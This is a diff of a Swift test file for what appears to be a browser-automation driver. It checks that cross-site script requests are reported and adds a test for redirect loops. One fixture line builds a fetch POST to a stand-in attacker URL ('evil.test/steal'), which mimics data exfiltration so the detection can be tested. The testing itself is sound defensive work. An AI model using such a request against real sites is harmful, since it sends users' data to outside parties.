@@ -98,7 +98,7 @@ struct ScriptRequestsTests {
     }
   }
 
-  @Test(arguments: [false, true], ["text/plain"])
+  @Test(arguments: [false, true], ["text/plain", "application/json"])
   func `what a script sends to another site is named`(saysSo: Bool, type: String) async throws {
     let request = "fetch('https://evil.test/steal?x=1', {method: 'POST', body: 'x', headers: {'Content-Type': '\(type)'}})"
     let page = Self.page("try { await \(request) } catch { \(saysSo ? "say('No')" : "") }")
@@ -162,5 +162,19 @@ struct ScriptRequestsTests {
       #expect(error?.message.hasPrefix(start) == true, "\(String(describing: error))")
       #expect(error?.exchanges.last?.method == "POST")
     }
+  }
+
+  @Test(arguments: [false, true])
+  func `a chain of redirects without an end is named as by plain HTTP`(isScripts: Bool) async throws {
+    let loop = isScripts ? Site.page("<script>location.replace('/authorize?' + Math.random())</script>") : Site.redirect(to: "/authorize")
+    try await Site.walk(["GET /authorize": loop]) { driver, _ in
+      let error = await #expect(throws: DriverError.self) { try await driver.perform(.start(StartParameters())) }
+      #expect(error?.kind == .redirectLoop, "\(String(describing: error))")
+      #expect(error?.message.hasSuffix("was redirected more than 20 times") == true, "\(String(describing: error))")
+    }
+    guard !isScripts else { return }
+    var plain = try Site.plainDriver(["GET /authorize": loop])
+    let error = await #expect(throws: DriverError.self) { try await plain.perform(.start(StartParameters())) }
+    #expect(error?.kind == .redirectLoop && error?.message.hasSuffix("was redirected more than 20 times") == true)
   }
 }
